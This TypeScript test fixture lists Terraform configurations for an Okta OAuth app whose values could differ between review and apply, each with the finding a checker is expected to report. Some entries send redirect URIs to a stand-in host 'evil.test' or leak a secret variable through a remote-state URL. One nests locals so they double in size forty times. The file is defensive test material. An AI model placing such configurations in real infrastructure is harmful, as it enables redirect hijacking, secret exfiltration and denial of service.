import { BILLING, type Attack } from './attack';

const EVIL = 'https://evil.test/cb';

/** Settings whose values an apply could take from somewhere else than the review did. */
export const VALUE_ATTACKS: readonly Attack[] = [
  {
    name: 'a condition on the placeholder of a rehearsal',
    app: { redirect_uris: [`\${var.secret == "placeholder" ? "https://a.acme.dev/cb" : "${EVIL}"}`] },
    more: { variable: { secret: { sensitive: true, ephemeral: true } } },
    found: `${BILLING} redirect_uris[0]`,
  },
  {
    name: 'a redirect URI through terraform_data',
    app: { redirect_uris: ['${terraform_data.v.output}'] },
    more: { resource: { terraform_data: { v: { input: EVIL } } } },
    found: `${BILLING} redirect_uris[0]`,
  },
  {
    name: 'a redirect URI of a data source that is read at the apply',
    app: { redirect_uris: ['${data.okta_app.other.label}'] },
    more: { data: { okta_app: { other: { label: 'x', depends_on: ['terraform_data.v'] } } } },
    found: `${BILLING} redirect_uris[0]`,
  },
  {
    name: 'a variable as a redirect URI',
    app: { redirect_uris: ['${var.uri}'] },
    more: { variable: { uri: { default: 'https://a.acme.dev/cb' } } },
    found: `${BILLING} redirect_uris[0]`,
  },
  {
    name: 'a whole list from a variable',
    app: { redirect_uris: '${var.uris}' },
    found: `${BILLING} redirect_uris`,
  },
  {
    name: 'an output of another stack as a redirect URI',
    app: { redirect_uris: ['${data.terraform_remote_state.other.outputs.uri}'] },
    found: `${BILLING} redirect_uris[0]`,
  },
  { name: 'an output of a module', app: { login_uri: '${module.m.uri}' }, found: `${BILLING} login_uri` },
  { name: 'an ephemeral value', app: { login_uri: '${ephemeral.x.y.uri}' }, found: `${BILLING} login_uri` },
  {
    name: 'an attribute known after apply',
    app: { redirect_uris: ['https://a.acme.dev/${random_id.r.hex}'] },
    found: `${BILLING} redirect_uris[0]`,
  },
  {
    name: 'a variable behind a local',
    app: { redirect_uris: ['${local.uri}'] },
    more: { locals: { uri: '${var.uri}' } },
    found: `${BILLING} redirect_uris[0]`,
  },
  {
    name: 'a variable behind three locals and an index',
    app: { redirect_uris: ['${local.a.uris[0]}'] },
    more: { locals: { a: '${local.b}', b: { uris: ['${local.c}'] }, c: '${var.uri}' } },
    found: `${BILLING} redirect_uris[0]`,
  },
  {
    name: 'a condition behind a local',
    app: { status: '${local.status}' },
    more: { locals: { status: '${var.x == "" ? "ACTIVE" : "INACTIVE"}' } },
    found: `${BILLING} status`,
  },
  {
    name: 'a local whose keys are templates',
    app: { login_uri: '${local.uris.a}' },
    more: { locals: { uris: { 'a${""}': EVIL, '${var.key}': 'https://a.acme.dev' } } },
    found: `${BILLING} login_uri`,
  },
  {
    name: 'locals that lead to themselves',
    app: { login_uri: '${local.a}' },
    more: { locals: { a: '${local.b}', b: '${local.a}' } },
    found: `${BILLING} login_uri`,
  },
  {
    name: 'locals of which each doubles the work',
    app: { login_uri: '${local.a0}' },
    more: {
      locals: Object.fromEntries(
        Array.from({ length: 40 }, (_, at) => [
          `a${String(at)}`,
          `\${"\${local.a${String(at + 1)}}\${local.a${String(at + 1)}}"}`,
        ]),
      ),
    },
    found: `${BILLING} login_uri`,
  },
  { name: 'a local that is not there', app: { login_uri: '${local.nowhere}' }, found: `${BILLING} login_uri` },
  { name: 'an index', app: { login_uri: '${["a", "b"][var.n]}' }, found: `${BILLING} login_uri` },
  { name: 'a function', app: { login_uri: '${lookup(var.uris, "a", "b")}' }, found: `${BILLING} login_uri` },
  {
    name: 'coalesce',
    app: { authentication_policy: '${coalesce(data.okta_policy.a.id, "rst1")}' },
    found: `${BILLING} authentication_policy`,
  },
  {
    name: 'try',
    app: { authentication_policy: '${try(data.okta_policy.a.id, okta_policy.b.id)}' },
    found: `${BILLING} authentication_policy`,
  },
  {
    name: 'a template around an id',
    app: { authentication_policy: '${data.okta_policy.a.id}x' },
    found: `${BILLING} authentication_policy`,
  },
  {
    name: 'a template that trims',
    app: { authentication_policy: '${~ data.okta_policy.a.id ~}' },
    found: `${BILLING} authentication_policy`,
  },
  { name: 'a directive', app: { login_uri: `%{ if var.x == "" }${EVIL}%{ endif }` }, found: `${BILLING} login_uri` },
  {
    name: 'a loop',
    app: { redirect_uris: '${[for u in var.uris : u]}' },
    found: `${BILLING} redirect_uris`,
  },
  {
    name: 'a loop variable with the name of a root',
    app: { redirect_uris: '${[for var in ["a"] : var.uri]}' },
    found: `${BILLING} redirect_uris`,
  },
  { name: 'how many there are', app: { count: '${length(data.okta_groups.g.groups)}' }, found: `${BILLING} count` },
  { name: 'whether there is one', app: { count: '${var.n}' }, found: `${BILLING} count` },
  { name: 'for each of a list of elsewhere', app: { for_each: '${var.apps}' }, found: `${BILLING} for_each` },
  { name: 'a key of a map', app: { for_each: { '${var.name}': 'x' } }, found: `${BILLING} for_each` },
  {
    name: 'the name of a member',
    app: { groups_claim: { '${upper("type")}': 'FILTER' } },
    found: `${BILLING} groups_claim`,
  },
  {
    name: 'a dynamic block for each of elsewhere',
    app: { dynamic: { jwks: { for_each: '${var.keys}', content: { kid: '${jwks.value}' } } } },
    found: `${BILLING} dynamic.jwks.for_each`,
  },
  {
    name: 'a variable in a dynamic block',
    app: { dynamic: { jwks: [{ for_each: ['a'], content: { kid: '${var.kid}' } }] } },
    found: `${BILLING} dynamic.jwks[0].content.kid`,
  },
  {
    name: 'an iterator with the name of a root',
    app: { dynamic: { jwks: { for_each: ['a'], iterator: 'var', content: { kid: '${var.value}' } } } },
    found: `${BILLING} dynamic.jwks.content.kid`,
  },
  {
    name: 'a dynamic block that is a text',
    app: { dynamic: { jwks: '${var.keys}' } },
    found: `${BILLING} dynamic.jwks`,
  },
  {
    name: 'the backend',
    more: { terraform: { backend: { s3: { bucket: '${var.bucket}' } } } },
    found: 'terraform backend.s3.bucket',
  },
  {
    name: 'the org of the provider',
    more: { provider: { okta: [{ org_name: '${var.org}' }] } },
    found: 'provider.okta [0].org_name',
  },
  {
    name: 'the capacity from another variable',
    more: { provider: { okta: [{ max_api_capacity: '${var.other}' }] } },
    found: 'provider.okta [0].max_api_capacity',
  },
  { name: 'another provider', more: { provider: { vault: { address: '${var.a}' } } }, found: 'provider.vault address' },
  {
    name: 'the address of another state, which is contacted at the plan',
    more: {
      data: { terraform_remote_state: { r: { backend: 'http', config: { address: 'https://e.test/${var.secret}' } } } },
    },
    found: 'data.terraform_remote_state.r config.address',
  },
  {
    name: 'the id of an import',
    more: { import: [{ to: 'okta_app_oauth.billing', id: '${var.id}' }] },
    found: 'import [0].id',
  },
  {
    name: 'an argument of a module',
    more: { module: { m: { source: './m', uri: '${var.uri}' } } },
    found: 'module.m uri',
  },
];
